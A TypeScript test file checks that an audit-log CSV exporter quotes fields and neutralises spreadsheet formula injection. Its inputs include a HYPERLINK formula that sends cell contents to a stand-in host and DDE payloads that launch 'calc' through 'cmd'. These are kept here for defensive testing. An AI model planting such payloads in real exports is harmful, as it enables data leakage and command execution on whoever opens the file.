import { describe, expect, it } from 'vitest';
import { auditCsv, csvField } from './audit-csv';

describe('the audit log as CSV', () => {
  it('quotes every field and doubles the quotes inside it, so no comma, semicolon or line break inside a value starts a cell', () => {
    expect(csvField(null)).toBe('""');
    expect(csvField('')).toBe('""');
    expect(csvField('plain')).toBe('"plain"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('curl/8.5 ,=1+2')).toBe('"curl/8.5 ,=1+2"');
  });

  // A spreadsheet reads a cell starting with any of these as a formula (or, for the separators, as
  // the start of one once the cell is split); the log holds what callers sent, such as user agents.
  it.each([
    ['=', '=HYPERLINK("http://x.example/?"&A1,"open")'],
    ['+', '+1+cmd|\' /C calc\'!A0'],
    ['-', '-2+3+cmd|\' /C calc\'!A0'],
    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['a tab', '\t=1+2'],
    ['a carriage return', '\r=1+2'],
    ['a line feed', '\n=1+2'],
    ['a semicolon', ';=1+2'],
    ['a comma', ',=1+2'],
    ['a NUL', '\u0000=1+2'],
  ])('neutralises a cell starting with %s: a leading apostrophe, inside the quotes', (_name, value) => {
    const field = csvField(value);
    expect(field).toBe(`"'${value.replace(/"/g, '""')}"`);
  });

  it('gives OWASP\'s two examples exactly', () => {
    expect(csvField('=1+2";=1+2')).toBe('"\'=1+2"";=1+2"');
    expect(csvField('=1+2\'" ;,=1+2')).toBe('"\'=1+2\'"" ;,=1+2"');
  });

  it('leaves a value alone whose dangerous character is not first', () => {
    expect(csvField('Mozilla/5.0 (=1+2)')).toBe('"Mozilla/5.0 (=1+2)"');
    expect(csvField('2026-01-31T12:00:00.000Z')).toBe('"2026-01-31T12:00:00.000Z"');
  });

  it('writes a header and one row per event, every cell quoted, naming actors by e-mail where known', () => {
    const csv = auditCsv([{
      id: 'e-1', tenant_id: 't-1', actor_user_id: 'u-1', actor_auth: 'jwt', action: 'member.role_changed', target_id: 'u-2',
      client_ip: '127.0.0.1', user_agent: '-curl/8', request_id: 'r-1', occurred_at: '2026-01-31T12:00:00.000Z', details: { from: 'member', to: 'admin' } as unknown as Record<string, never>,
    }], new Map([['u-1', 'ada@example.com']]));
    expect(csv.split('\r\n')).toEqual([
      '"occurred_at","action","actor_user_id","actor_email","actor_auth","target_id","client_ip","user_agent","request_id","details"',
      '"2026-01-31T12:00:00.000Z","member.role_changed","u-1","ada@example.com","jwt","u-2","127.0.0.1","\'-curl/8","r-1","{""from"":""member"",""to"":""admin""}"',
      '',
    ]);
  });
});
